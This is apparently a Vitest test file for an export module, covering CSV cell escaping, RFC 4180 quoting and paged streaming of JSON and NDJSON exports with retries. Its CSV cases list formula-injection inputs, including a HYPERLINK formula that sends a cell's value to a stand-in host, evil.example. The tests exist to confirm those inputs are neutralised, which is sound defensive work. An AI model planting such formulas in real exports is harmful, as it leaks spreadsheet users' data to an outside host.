import { describe, expect, it } from 'vitest';
import type { ExportPosition } from '../record/exports/read-export.ts';
import { exportWriter } from './export-format.ts';
import { type StreamDeps, streamExport } from './stream-export.ts';
import { csvCell, csvLines } from './write-csv.ts';

const HEAD = { kind: 'logs', account: 'local', next: 'abc' } as const;

describe('a cell of CSV', () => {
  it.each([
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '＝1+1',
    '－1+1',
    '\u00a0=1',
  ])('is no formula for a spreadsheet: %j', (text) => {
    expect(csvCell('result', text)).toBe(`'${text}`);
  });

  it('is otherwise what it was', () => {
    expect(csvCell('result', 'a=b')).toBe('a=b');
    expect(csvCell('result', null)).toBe('');
    expect(csvCell('durationMs', -1.5)).toBe(-1.5);
    expect(csvCell('inputCut', false)).toBe('false');
    expect(csvCell('startedAt', 0)).toBe('1970-01-01T00:00:00.000Z');
    expect(csvCell('options', { labels: ['=1'] })).toBe('{"labels":["=1"]}');
  });

  it('is quoted as RFC 4180 says', () => {
    expect(csvLines([['a,b', 'say "hi"', 'two\nlines', 'one\rmore', 5, '']])).toBe(
      '"a,b","say ""hi""","two\nlines","one\rmore",5,\r\n',
    );
  });
});

/** Rows of a table that is read `size` at a time. */
function tableOf(count: number, size: number, over: Partial<StreamDeps> = {}) {
  const reads: (number | null)[] = [];
  const failures: unknown[] = [];
  const deps: StreamDeps = {
    read: async (after) => {
      const from = Number(after?.[0] ?? 0);
      reads.push(from);
      const numbers = Array.from({ length: Math.min(size, count - from) }, (_, index) => from + index + 1);
      return numbers.map((number) => ({ row: { number }, position: [number] }));
    },
    wait: async () => {},
    random: () => 0.5,
    onFailure: (error) => failures.push(error),
    ...over,
  };
  return { deps, reads, failures };
}

const export_ = (
  deps: StreamDeps,
  format: 'json' | 'ndjson',
  start: ExportPosition | null = null,
  end: ExportPosition | null = null,
) => streamExport(deps, exportWriter(format, HEAD), start, end);

describe('a streamed export', () => {
  it('is one JSON document, however many pages it was read in', async () => {
    for (const [count, size] of [
      [0, 2],
      [1, 2],
      [5, 2],
      [4, 2],
    ] as const) {
      const text = await new Response(export_(tableOf(count, size).deps, 'json')).text();
      expect(JSON.parse(text)).toEqual({
        ...HEAD,
        items: Array.from({ length: count }, (_, index) => ({ number: index + 1 })),
      });
    }
  });

  it('holds what lies after one position up to another, and reads no further', async () => {
    const { deps, reads } = tableOf(100, 4);
    const text = await new Response(export_(deps, 'ndjson', [3], [9])).text();
    expect(text).toBe([4, 5, 6, 7, 8, 9].map((number) => `{"number":${number}}\n`).join(''));
    expect(reads).toEqual([3, 7]);
  });

  it('reads no more than one page ahead of who takes it', async () => {
    const { deps, reads } = tableOf(1_000, 10);
    const reader = export_(deps, 'ndjson').getReader();
    await reader.read();
    await new Promise((resolve) => setImmediate(resolve));
    expect(reads).toEqual([0, 10]);
    await reader.cancel();
  });

  it('goes on when the record comes back, from where it was', async () => {
    const { deps, failures } = tableOf(5, 2);
    let failing = 3;
    const flaky = {
      ...deps,
      read: async (after: ExportPosition | null) => {
        if (after !== null && failing > 0) {
          failing -= 1;
          throw new Error('hung up');
        }
        return deps.read(after);
      },
    };
    const text = await new Response(export_(flaky, 'ndjson')).text();
    expect(text.match(/\d/g)).toEqual(['1', '2', '3', '4', '5']);
    expect(failures).toEqual([]);
  });

  it('breaks off with an error when the record stays away, so that a part is not taken for the whole', async () => {
    const { deps, failures } = tableOf(5, 2);
    const gone = new Error('hung up');
    const broken = {
      ...deps,
      read: (after: ExportPosition | null) => (after === null ? deps.read(after) : Promise.reject(gone)),
    };
    await expect(new Response(export_(broken, 'json')).text()).rejects.toThrow('hung up');
    expect(failures).toEqual([gone]);
  });
});
